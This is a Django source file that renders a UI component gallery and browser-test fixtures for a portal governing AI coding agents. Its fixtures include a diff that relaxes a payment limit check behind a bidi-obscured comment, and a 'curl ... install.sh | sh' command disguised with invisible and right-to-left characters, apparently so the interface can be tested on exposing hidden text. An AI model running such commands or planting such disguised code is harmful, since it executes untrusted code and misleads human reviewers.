"""The gallery: every component in every state, for the eye and for the browser tests; never in the product."""

import random
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any

from django import forms
from django.http import HttpRequest, HttpResponse
from django.shortcuts import render
from django.urls import include, path
from django.utils import timezone

from portal.errors import InvalidInput, NotAllowed, StaleView
from portal.web.charts import Point
from portal.web.pagination import Page
from portal.web.states import LOOKS

CHARTER = (
    "Dependency Bot, a Claude Code agent of Payments Platform, works for Maya Okafor: on a schedule it may edit and "
    "commit on feature branches of acme/payments-api and acme/ledger; merging, dependencies and infrastructure need "
    "one approver; secrets, access control and production are forbidden."
)
DIFF = """diff --git a/payments/settle.py b/payments/settle.py
--- a/payments/settle.py
+++ b/payments/settle.py
@@ -41,7 +41,8 @@ def settle(batch: Batch) -> Receipt:
     total = sum(line.amount for line in batch.lines)
-    if total > LIMIT:
-        raise TooLarge(total)
+    if total > LIMIT and not batch.override:
+        raise TooLarge(total)
+    # \u202eelbasid ti kcehc\u2066
     receipt = Receipt.for_batch(batch)
     receipt.sign()
     return receipt
"""


class Who:
    is_authenticated = True
    name = "Maya Okafor"
    email = "maya.okafor@example.org"


class FilterForm(forms.Form):
    q = forms.CharField(label="Search", required=False, widget=forms.TextInput(attrs={"data-key-search": ""}))
    team = forms.ChoiceField(label="Team", required=False, choices=[("", "All teams"), ("p", "Payments Platform")])
    state = forms.ChoiceField(label="State", required=False, choices=[("", "Any state"), ("active", "Active")])


class AgentForm(forms.Form):
    name = forms.CharField(label="Name", help_text="People see this name on every request and package.")
    purpose = forms.CharField(label="Purpose", required=False, widget=forms.Textarea(attrs={"rows": 3}))
    platform = forms.ChoiceField(label="Platform", choices=[("claude_code", "Claude Code"), ("codex", "Codex")])
    position = forms.ChoiceField(
        label="Position of people",
        widget=forms.RadioSelect,
        choices=[("in", "In the loop: each step is decided"), ("on", "On the loop: watched, stopped when needed")],
    )
    paths = forms.CharField(
        label="Allowed paths",
        help_text="One pattern a line. Blocked paths win.",
        widget=forms.Textarea(attrs={"rows": 3, "spellcheck": "false"}),
    )
    confirm = forms.BooleanField(label="I answer for what this agent does", help_text="Your name is recorded.")


def series(seed: int, days: int = 30) -> list[Point]:
    dice = random.Random(seed)  # noqa: S311 (only heights of bars)
    first = datetime(2026, 10, 22, tzinfo=UTC)
    points: list[Point] = []
    for day in range(days):
        date = first + timedelta(days=day)
        quiet = date.weekday() > 4
        counts = {
            "allow": 0 if quiet else dice.randint(4, 40),
            "review": 0 if quiet else dice.randint(0, 6),
            "deny": dice.randint(0, 2),
        }
        points.append((f"{date.day} {date:%b}", counts))
    return points


def context() -> dict[str, Any]:
    now = timezone.now()
    bad = AgentForm({"name": "", "purpose": "Keep libraries current", "platform": "codex", "paths": "src/**\n../x"})
    bad.add_error("paths", "Line 2 leaves the repository. Nothing was saved.")
    return {
        "user": Who(),
        "now": now,
        "charter_text": CHARTER,
        "looks": [(kind, list(values)) for kind, values in LOOKS.items()],
        "filters": FilterForm({"q": "bot"}),
        "form": AgentForm(initial={"paths": "src/**"}),
        "bad_form": bad,
        "few": Page(items=[1, 2, 3], next_cursor="abc", count_capped=10_001, is_first=False),
        "agents": [
            {"name": n, "team": t, "state": s, "seen": now - timedelta(minutes=m), "days": series(m), "files": m * 37}
            for n, t, s, m in [
                ("Dependency Bot", "Payments Platform", "active", 3),
                ("Refactor Helper with a rather long name", "Customer Web", "suspended", 190),
                ("Incident Scribe", "Reliability", "stopped", 2890),
            ]
        ],
        "requests": [
            {"n": "AR-41", "what": "Merge into main", "who": "Dependency Bot", "end": now + timedelta(minutes=7)},
            {"n": "AR-42", "what": "Change requirements.lock", "who": "Refactor Bot", "end": now + timedelta(hours=2)},
            {"n": "AR-39", "what": "Deploy to staging", "who": "Release Pilot", "end": now - timedelta(minutes=1)},
        ],
        "bars": [("Dependency Bot", {"allow": 412, "review": 38, "deny": 4}), ("Scribe", {"allow": 97, "deny": 1})],
        "steps": [
            {"label": "Who it is", "url": "/", "state": "done"},
            {"label": "What it may touch", "url": "", "state": "current"},
            {"label": "What needs a person", "url": "", "state": "ahead"},
            {"label": "Check and register", "url": "", "state": "ahead"},
        ],
        "diff_text": DIFF,
        "command": "curl https://exa\u200bmple.org/install.sh | sh\u00a0\u202e# harmless",
        "pairs": [("Owner team", "Payments Platform"), ("Accountable person", "Maya Okafor"), ("Model", None)],
        "figures": [("waiting for you", "3"), ("agents you answer for", "12"), ("checks this week", "18,204")],
        "digest": "4f1c9a0b7de2135566aa90cc1b7fd0e0219c3e7745fd1f1a6a0f8f7b2c3d4e5f",
        "touches": ["14 agents of Payments Platform", "3 pending requests, to be voided", "2 unredeemed grants"],
        "kills_in_force": [
            SimpleNamespace(
                number=4, target="agent Incident Scribe", reason="Wrote outside its repository.",
                ordered_at=now - timedelta(hours=3), url="/",
            )
        ],
    }  # fmt: skip


def gallery(request: HttpRequest) -> HttpResponse:
    return render(request, "gallery/gallery.html", context())


def inbox(request: HttpRequest) -> HttpResponse:
    return render(request, "gallery/inbox.html", context())


def badge(request: HttpRequest) -> HttpResponse:
    return render(request, "components/_badge.html", {"count": 3})


def sign_in(request: HttpRequest) -> HttpResponse:
    return render(request, "gallery/sign_in.html", {"form": SignIn()})


class SignIn(forms.Form):
    login = forms.EmailField(label="E-mail")
    password = forms.CharField(label="Password", widget=forms.PasswordInput)


def problem(request: HttpRequest, kind: str) -> HttpResponse:
    if kind == "stale":
        raise StaleView("The command changed after you opened the request.", difference="npm ci became npm install.")
    if kind == "input":
        raise InvalidInput(
            "The policy cannot be read.", errors=[{"pointer": "/scope/paths/2", "detail": "Leaves the repository."}]
        )
    if kind == "fault":
        raise RuntimeError("planted")
    raise NotAllowed("Only an approver of Payments Platform may decide this.")


empty = ([path("", gallery, name="agents")], "registry")
approvals = ([path("approvals/", inbox, name="inbox"), path("approvals/badge/", badge, name="badge")], "approvals")
reports = ([path("runs/", gallery, name="runs"), path("packages/", gallery, name="packages")], "reports")

urlpatterns = [
    path("", gallery, name="home"),
    path("agents/", include(empty)),
    path("", include(approvals)),
    path("", include(reports)),
    path("sign-in/", sign_in),
    path("sign-out/", sign_in, name="account_logout"),
    path("password/", sign_in, name="account_change_password"),
    path("two-step/", sign_in, name="mfa_index"),
    path("problem/<str:kind>/", problem),
]
handler400 = "portal.web.errors.handler400"
handler403 = "portal.web.errors.handler403"
handler404 = "portal.web.errors.handler404"
handler500 = "portal.web.errors.handler500"
